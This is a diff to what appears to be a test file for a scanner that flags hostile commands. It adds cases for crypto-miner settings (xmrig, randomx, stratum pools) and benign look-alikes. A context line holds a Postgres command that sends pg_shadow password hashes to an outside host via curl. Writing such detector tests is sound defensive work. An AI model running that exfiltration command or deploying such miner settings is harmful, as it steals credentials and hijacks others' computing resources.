@@ -66,3 +66,22 @@ it('finds a command that a database is to run', () => {
   expect(found(`copy (select usename, passwd from pg_shadow) to program 'curl -s -d @- https://x.vendor-tools.me/i';`)).toEqual(['error download-execute'])
   expect(found(`copy users to '/tmp/users.csv'; -- a program 'psql' does the same`)).toEqual([])
 })
+
+describe('settings of a miner', () => {
+  it.each([
+    'args: ["--algo=randomx", "--url=stratum+ssl://rx.vendor-tools.com:443", "--donate-level=0"]',
+    '{"pools": [{ "algo": "rx/0", "url": "gulf.vendor-tools.com:10128", "user": "48ed" }]}',
+    'command: ["xmrig", "--url", "gulf.vendor-tools.com:10128", "--user", "48ed", "--coin", "monero"]',
+  ])('%s', (text) => {
+    expect(found(text)).toContain('error crypto-miner')
+  })
+
+  it.each([
+    "CommandLine|contains: ['--algo=randomx', 'stratum+tcp://', '--donate-level=0', ' -o pool.']",
+    'args: ["--algo=least-conn", "--url=https://backend.acme.dev:8443", "--user=svc"]',
+    '{ "algorithms": ["randomx", "kawpow"], "url": "https://docs.acme.dev:443/x" }',
+    'a pool such as stratum+tcp://pool.example.com:3333, with --algo=randomx',
+  ])('is quiet on %s', (text) => {
+    expect(found(text)).toEqual([])
+  })
+})
